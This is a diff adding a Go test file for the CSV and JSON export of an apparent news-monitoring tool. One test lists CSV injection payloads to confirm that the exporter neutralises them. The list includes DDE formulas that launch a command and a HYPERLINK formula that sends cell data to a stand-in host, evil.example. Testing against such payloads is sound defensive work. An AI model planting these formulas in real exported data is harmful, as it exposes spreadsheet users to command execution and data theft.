@@ -1,0 +1,112 @@
+package export
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	"codeberg.org/newswatch/newswatch/monitor"
+	"codeberg.org/newswatch/newswatch/monitor/query"
+)
+
+func sampleMatch(title, summary string) monitor.Match {
+	return monitor.Match{
+		TopicName: "Ukraine",
+		Hits:      []query.Hit{{Term: "Ukraine", Field: query.Title, Start: 0, End: 7}, {Term: "Ukraine", Field: query.Summary, Start: 0, End: 0}},
+		Article: monitor.Article{
+			FeedName: "tagesschau.de", Title: title, Summary: summary, Link: "https://news.example/1",
+			Published: time.Date(2026, 11, 25, 8, 30, 0, 0, time.FixedZone("CET", 3600)),
+			FirstSeen: time.Date(2026, 11, 25, 7, 31, 0, 0, time.UTC),
+		},
+	}
+}
+
+func TestCSVRoundTrip(t *testing.T) {
+	ms := []monitor.Match{
+		sampleMatch("Ukraine: „Gespräche“ in Genf, sagt Selenskyj", "Zeile 1\nZeile 2, mit \"Zitat\""),
+		sampleMatch("Ukraine; Ölpreis €", ""),
+	}
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, ms, true); err != nil {
+		t.Fatal(err)
+	}
+	if !bytes.HasPrefix(buf.Bytes(), []byte("\ufeff")) {
+		t.Fatal("no byte-order mark")
+	}
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte("\ufeff")))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !reflect.DeepEqual(rows[0], Header) {
+		t.Fatalf("header = %q", rows[0])
+	}
+	want := []string{"2026-11-25T07:30:00Z", "2026-11-25T07:31:00Z", "Ukraine", "Ukraine (title, summary)",
+		"tagesschau.de", ms[0].Article.Title, "https://news.example/1", ms[0].Article.Summary}
+	if !reflect.DeepEqual(rows[1], want) {
+		t.Fatalf("row =\n %q\nwant\n %q", rows[1], want)
+	}
+	if len(rows) != 3 || rows[2][5] != "Ukraine; Ölpreis €" {
+		t.Fatalf("rows = %q", rows)
+	}
+}
+
+// OWASP's CSV injection payloads (and variants): every one must reach the
+// spreadsheet as text.
+func TestCSVNeutralizesFormulas(t *testing.T) {
+	payloads := []string{
+		"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+		`=HYPERLINK("http://evil.example?x="&A1,"Click")`, "@import", "-2+3+cmd|' /C calc'!A0",
+		"  =1+1", "＝1+1", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+	}
+	for _, p := range payloads {
+		var buf bytes.Buffer
+		if err := WriteCSV(&buf, []monitor.Match{sampleMatch(p, p)}, false); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&buf).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, cell := range rows[1] {
+			if strings.HasPrefix(cell, "'") {
+				continue
+			}
+			trimmed := strings.TrimLeft(cell, " ")
+			if trimmed != "" && strings.ContainsAny(trimmed[:1], "=+-@\t\r") || strings.HasPrefix(trimmed, "＝") {
+				t.Errorf("payload %q reached the CSV as %q", p, cell)
+			}
+		}
+		// encoding/csv reads a lone carriage return in a cell as nothing.
+		if got, want := rows[1][5], "'"+strings.ReplaceAll(p, "\r", ""); got != want {
+			t.Errorf("title cell = %q, want %q", got, want)
+		}
+	}
+	if got := Neutralize("Ukraine-Krieg"); got != "Ukraine-Krieg" {
+		t.Errorf("harmless text changed: %q", got)
+	}
+}
+
+func TestJSON(t *testing.T) {
+	m := sampleMatch("Ukraine heute", "Ukraine")
+	m.Article.Summary = "Ukraine"
+	m.Hits[1].End = 7
+	var buf bytes.Buffer
+	if err := WriteJSON(&buf, []monitor.Match{m}); err != nil {
+		t.Fatal(err)
+	}
+	var out []map[string]any
+	if err := json.Unmarshal(buf.Bytes(), &out); err != nil {
+		t.Fatal(err)
+	}
+	if len(out) != 1 || out[0]["title"] != "Ukraine heute" || out[0]["published"] != "2026-11-25T07:30:00Z" {
+		t.Fatalf("json = %s", buf.String())
+	}
+	terms := out[0]["matched_terms"].([]any)
+	if first := terms[0].(map[string]any); first["field"] != "title" || first["text"] != "Ukraine" {
+		t.Fatalf("matched_terms = %v", terms)
+	}
+}
